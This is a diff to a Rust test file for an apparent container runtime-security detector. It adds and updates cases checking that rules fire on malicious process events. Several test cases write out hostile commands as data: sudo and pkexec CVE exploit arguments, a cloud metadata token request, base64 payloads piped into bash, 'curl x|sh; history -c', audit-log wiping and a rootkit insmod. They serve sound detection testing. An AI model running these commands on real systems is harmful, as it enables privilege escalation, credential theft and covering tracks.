@@ -5,10 +5,10 @@ use std::collections::BTreeSet;
 use std::time::SystemTime;
 
 use super::engine::{Engine, Mode};
-use super::finding::Resource;
 use super::policy::{Policy, DEFAULT_FILES};
-use crate::event::{Ancestor, Binary, EnvVar, ExecEvent, FileActor, FileEvent, FileOp, Sensor, Stdio};
-use crate::fs::baseline::Verdict;
+use crate::events::Provenance;
+use crate::events::{Ancestor, Binary, EnvVar, ExecEvent, FileActor, FileEvent, FileOp, Sensor, Stdio};
+use runwarden_contract::Resource;
 
 const REMOTE: &str = "tcp 10.0.0.5:41234->203.0.113.7:4444 ESTABLISHED";
 
@@ -61,20 +61,20 @@ fn env(mut e: ExecEvent, k: &str, v: &str) -> ExecEvent {
     e
 }
 
-pub(super) fn verdict(mut e: ExecEvent, v: Verdict) -> ExecEvent {
+pub(super) fn verdict(mut e: ExecEvent, v: Provenance) -> ExecEvent {
     e.binary.verdict = Some(v);
     e
 }
 
 pub(super) fn malicious(mut e: ExecEvent) -> ExecEvent {
     e.binary.signatures =
-        vec![crate::event::SignatureHit { rule: "miner_xmrig_family".into(), family: Some("xmrig".into()) }];
+        vec![crate::events::SignatureHit { rule: "miner_xmrig_family".into(), family: Some("xmrig".into()) }];
     e
 }
 
 fn with_script(mut e: ExecEvent, language: &'static str, malicious: bool) -> ExecEvent {
-    e.script = Some(crate::event::ScriptEvidence {
-        script: super::finding::Script {
+    e.script = Some(crate::events::ScriptEvidence {
+        script: runwarden_contract::Script {
             path: None,
             contents: e.args.last().cloned().unwrap_or_default(),
             sha256: "0".repeat(64),
@@ -93,12 +93,19 @@ pub(super) fn socket() -> Stdio {
     Stdio::Socket { inode: 9, peer: Some(REMOTE.into()) }
 }
 
+/// A process that is neither the entrypoint (pid 100 in these tables) nor its child.
+pub(super) fn not_entry(mut e: ExecEvent) -> ExecEvent {
+    e.pid = 300;
+    e.ppid = 200;
+    e
+}
+
 pub(super) fn engine() -> Engine {
     Engine::new(Policy::load(DEFAULT_FILES, &[]).expect("defaults load"), Resource::default())
         .expect("compile")
 }
 
-fn fired(engine: &mut Engine, e: &ExecEvent) -> BTreeSet<String> {
+pub(super) fn fired(engine: &mut Engine, e: &ExecEvent) -> BTreeSet<String> {
     engine.evaluate_exec(e, Mode::Detect).into_iter().map(|f| f.rule.id).collect()
 }
 
@@ -148,7 +155,8 @@ fn positives() -> Vec<(&'static str, ExecEvent)> {
         ("sudo_cve_2019_14287", ev("/usr/bin/sudo", &["sudo", "-u#-1", "id"])),
         ("pkexec_cve_2021_4034", ev("/usr/bin/pkexec", &[])),
         ("sudo_cve_2021_3156", ev("/usr/bin/sudoedit", &["sudoedit", "-s", "\\"])),
-        ("terminal_shell", stdin(ev("/bin/bash", &["bash"]), Stdio::Tty { path: "/dev/pts/0".into() })),
+        ("terminal_shell", stdin(not_entry(ev("/bin/bash", &["bash"])), Stdio::Tty { path: "/dev/pts/0".into() })),
+        ("terminal_shell", stdin(not_entry(ev("/bin/sh", &["sh", "-i", "-c", "id"])), Stdio::Tty { path: "/dev/pts/1".into() })),
         ("ssh_server_started", ev("/usr/sbin/sshd", &["sshd", "-D"])),
         ("kernel_module_tool", ev("/sbin/insmod", &["insmod", "/tmp/rootkit.ko"])),
         ("metadata_token_request", ev("/usr/bin/curl", &["curl", "-H", "Metadata-Flavor: Google", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"])),
@@ -158,11 +166,13 @@ fn positives() -> Vec<(&'static str, ExecEvent)> {
         ("audit_system_tampering", ev("/sbin/auditctl", &["auditctl", "-D"])),
         ("piped_encoded_download", ev("/bin/sh", &["sh", "-c", "curl -s http://x/p | base64 -d > /tmp/p"])),
         ("piped_encoded_code_execution", ev("/bin/bash", &["bash", "-c", "echo cHJpbnQoMSk= | base64 --decode | python3"])),
-        ("added_binary_executed", verdict(ev("/app/bin/helper", &["helper"]), Verdict::Added)),
-        ("added_binary_executed", verdict(ev("/usr/bin/ls", &["ls"]), Verdict::Modified)),
-        ("added_malicious_binary", malicious(verdict(ev("/tmp/kx", &["kx"]), Verdict::Added))),
-        ("modified_malicious_binary", malicious(verdict(ev("/usr/bin/ls", &["ls"]), Verdict::Modified))),
-        ("builtin_malicious_binary", malicious(verdict(ev("/usr/bin/xmrig", &["xmrig"]), Verdict::Builtin))),
+        ("piped_encoded_code_execution", ev("/bin/sh", &["sh", "-c", "echo aWQK | base64 -d | bash"])),
+        ("piped_encoded_code_execution", ev("/bin/sh", &["sh", "-c", "echo aWQK | base64 --decode | /bin/sh -s"])),
+        ("added_binary_executed", verdict(ev("/app/bin/helper", &["helper"]), Provenance::Added)),
+        ("added_binary_executed", verdict(ev("/usr/bin/ls", &["ls"]), Provenance::Modified)),
+        ("added_malicious_binary", malicious(verdict(ev("/tmp/kx", &["kx"]), Provenance::Added))),
+        ("modified_malicious_binary", malicious(verdict(ev("/usr/bin/ls", &["ls"]), Provenance::Modified))),
+        ("builtin_malicious_binary", malicious(verdict(ev("/usr/bin/xmrig", &["xmrig"]), Provenance::Builtin))),
         ("builtin_malicious_binary", malicious(ev("/usr/local/bin/kx", &["kx"]))),
         ("malicious_script_executed", with_script(ev("/bin/sh", &["sh", "-c", "curl x|sh; history -c"]), "shell", true)),
         ("malicious_python_executed", with_script(ev("/usr/bin/python3", &["python3", "-c", "exec(...)"]), "python", true)),
@@ -231,7 +241,14 @@ fn negatives() -> Vec<(&'static str, ExecEvent)> {
         ("sudo_cve_2019_14287", ev("/usr/bin/sudo", &["sudo", "-u", "postgres", "psql"])),
         ("pkexec_cve_2021_4034", ev("/usr/bin/pkexec", &["pkexec", "apt", "update"])),
         ("sudo_cve_2021_3156", ev("/usr/bin/sudo", &["sudo", "-s", "echo", "a\\\\"])),
-        ("terminal_shell", ev("/bin/bash", &["bash", "-c", "exec gunicorn app"])),
+        (
+            "terminal_shell",
+            stdin(
+                ev("/bin/bash", &["bash", "-c", "exec gunicorn app"]),
+                Stdio::Tty { path: "/dev/pts/0".into() },
+            ),
+        ),
+        ("terminal_shell", not_entry(ev("/bin/sh", &["sh", "-i"]))),
         ("ssh_server_started", ev("/usr/bin/ssh", &["ssh", "-V"])),
         ("kernel_module_tool", ev("/sbin/lsmod", &["lsmod"])),
         (
@@ -247,12 +264,13 @@ fn negatives() -> Vec<(&'static str, ExecEvent)> {
         ("audit_system_tampering", ev("/usr/bin/journalctl", &["journalctl", "-u", "app"])),
         ("piped_encoded_download", ev("/bin/sh", &["sh", "-c", "curl -fsS http://localhost:8080/healthz"])),
         ("piped_encoded_code_execution", ev("/bin/sh", &["sh", "-c", "echo e30= | base64 -d | jq ."])),
-        ("added_binary_executed", verdict(ev("/usr/bin/ls", &["ls"]), Verdict::Builtin)),
+        ("piped_encoded_code_execution", ev("/bin/sh", &["sh", "-c", "echo aWQK | base64 -d | sha256sum"])),
+        ("added_binary_executed", verdict(ev("/usr/bin/ls", &["ls"]), Provenance::Builtin)),
         ("added_binary_executed", ev("/usr/bin/ls", &["ls"])),
-        ("added_binary_executed", malicious(verdict(ev("/tmp/kx", &["kx"]), Verdict::Added))),
-        ("added_malicious_binary", verdict(ev("/tmp/tool", &["tool"]), Verdict::Added)),
-        ("modified_malicious_binary", malicious(verdict(ev("/tmp/kx", &["kx"]), Verdict::Added))),
-        ("builtin_malicious_binary", verdict(ev("/usr/bin/ls", &["ls"]), Verdict::Builtin)),
+        ("added_binary_executed", malicious(verdict(ev("/tmp/kx", &["kx"]), Provenance::Added))),
+        ("added_malicious_binary", verdict(ev("/tmp/tool", &["tool"]), Provenance::Added)),
+        ("modified_malicious_binary", malicious(verdict(ev("/tmp/kx", &["kx"]), Provenance::Added))),
+        ("builtin_malicious_binary", verdict(ev("/usr/bin/ls", &["ls"]), Provenance::Builtin)),
         ("malicious_url_observed", ev("/usr/bin/curl", &["curl", "https://example.com/"])),
         (
             "malicious_script_executed",
@@ -497,78 +515,6 @@ fn findings_follow_the_contract() {
     assert!(v["processes"][0].get("script").is_none());
 }
 
-fn user(text: &str) -> Vec<(String, String)> {
-    vec![("/etc/runwarden/extra.yaml".to_string(), text.to_string())]
-}
-
-#[test]
-fn user_policies_add_override_and_disable() {
-    let text = r#"
-lists:
-  shells: [mysh]
-rules:
-  - id: netcat_executed
-    enabled: false
-  - id: compiler_launched
-    action: kill
-  - id: my_tmp_rule
-    category: "Execution: Program Run from Temporary Directory"
-    severity: HIGH
-    description: "custom {proc.exe}"
-    mitre: {tactic: EXECUTION, techniques: [T1204]}
-    event: exec
-    condition: proc.exe.startsWith('/scratch/')
-"#;
-    let policy = Policy::load(DEFAULT_FILES, &user(text)).unwrap();
-    let get = |id: &str| policy.rules.iter().find(|r| r.spec.id == id).unwrap();
-    assert!(!get("netcat_executed").spec.enabled);
-    assert_eq!(get("compiler_launched").spec.action, super::policy::RuleAction::Kill);
-    assert_eq!(get("my_tmp_rule").origin.source, "/etc/runwarden/extra.yaml");
-    assert_eq!(get("my_tmp_rule").origin.line, 9);
-    assert!(policy.lists["shells"].contains(&"mysh".to_string()));
-    assert!(policy.lists["shells"].contains(&"bash".to_string()), "lists extend, not replace");
-
-    let mut e = Engine::new(policy, Resource::default()).unwrap();
-    assert!(fired(&mut e, &ev("/scratch/x", &["x"])).contains("my_tmp_rule"));
-    assert!(!fired(&mut e, &ev("/usr/bin/nc", &["nc", "-z", "h", "1"])).contains("netcat_executed"));
-    assert!(fired(&mut e, &stdin(ev("/usr/bin/mysh", &["mysh"]), socket()))
-        .contains("reverse_shell_stdio_socket"));
-}
-
-#[test]
-fn policy_errors_name_file_line_and_rule() {
-    let text = "rules:\n  - id: ok_rule\n    enabled: false\n  - id: bad_severity\n    category: X\n    severity: HIGHEST\n    description: d\n    mitre: {tactic: T, techniques: [T1]}\n    event: exec\n    condition: 'true'\n";
-    let err = Policy::load(DEFAULT_FILES, &user(text)).unwrap_err();
-    let all = err.to_string();
-    assert_eq!(err.0.len(), 2, "{all}");
-    assert!(
-        all.contains("/etc/runwarden/extra.yaml:2:1: rule ok_rule: changes a rule that does not exist"),
-        "{all}"
-    );
-    assert!(
-        all.contains("/etc/runwarden/extra.yaml:4:1: rule bad_severity: unknown variant `HIGHEST`"),
-        "{all}"
-    );
-
-    let text = "rules:\n  - id: typo\n    category: X\n    severity: LOW\n    description: d\n    mitre: {tactic: T, techniques: [T1]}\n    event: exec\n    conditon: 'true'\n";
-    let all = Policy::load(DEFAULT_FILES, &user(text)).unwrap_err().to_string();
-    assert!(all.contains("unknown field `conditon`"), "{all}");
-
-    let text = "rules:\n  - id: broken\n    category: X\n    severity: LOW\n    description: d\n    mitre: {tactic: T, techniques: [T1]}\n    event: exec\n    condition: \"proc.name ==\"\n";
-    let policy = Policy::load(DEFAULT_FILES, &user(text)).unwrap();
-    let err = Engine::new(policy, Resource::default()).err().expect("must not compile");
-    let all = err.to_string();
-    assert!(
-        all.starts_with("/etc/runwarden/extra.yaml:2:1: rule broken: condition does not compile"),
-        "{all}"
-    );
-
-    let err = Policy::load(DEFAULT_FILES, &user("rules: [\n")).unwrap_err();
-    assert_eq!(err.0[0].file, "/etc/runwarden/extra.yaml");
-    assert!(err.0[0].line >= 1);
-    assert!(err.to_string().contains('^'), "the offending line is shown with a caret: {err}");
-}
-
 #[test]
 fn defaults_are_valid_and_quiet_on_an_entrypoint_chain() {
     let mut e = engine();
@@ -602,4 +548,23 @@ fn descriptions_redact_values_not_the_rule_text() {
     let d = &f.iter().find(|f| f.rule.id == "search_private_keys_or_passwords").expect("fires").description;
     assert!(d.contains(": find / -name id_rsa"), "the command survives the rule's own 'passwords:': {d}");
     assert!(!d.contains("hunter2") && d.contains("[REDACTED]"), "a secret in the value is masked: {d}");
+}
+
+/// "Execution: Terminal Shell in Container" judges the terminal, not `-c`: the entrypoint and its children
+/// during start-up are quiet (`docker run -it`), a shell on a pty further down fires, `-c` or not.
+#[test]
+fn terminal_shell_spares_only_the_entrypoint_and_its_start_up_children() {
+    let tty = || Stdio::Tty { path: "/dev/pts/0".into() };
+    let at = |pid: i32, ppid: i32, args: &[&str], secs: u64| {
+        let mut e = stdin(ev("/bin/sh", args), tty());
+        e.pid = pid;
+        e.ppid = ppid;
+        e.time = SystemTime::UNIX_EPOCH + std::time::Duration::from_secs(1_000 + secs);
+        e
+    };
+    let mut e = engine();
+    assert!(!fired(&mut e, &at(10, 1, &["sh", "-c", "exec app"], 0)).contains("terminal_shell"));
+    assert!(!fired(&mut e, &at(11, 10, &["sh", "-c", "setup"], 2)).contains("terminal_shell"));
+    assert!(fired(&mut e, &at(12, 11, &["sh", "-i", "-c", "id"], 3)).contains("terminal_shell"));
+    assert!(fired(&mut e, &at(13, 10, &["sh", "-c", "setup"], 60)).contains("terminal_shell"));
 }
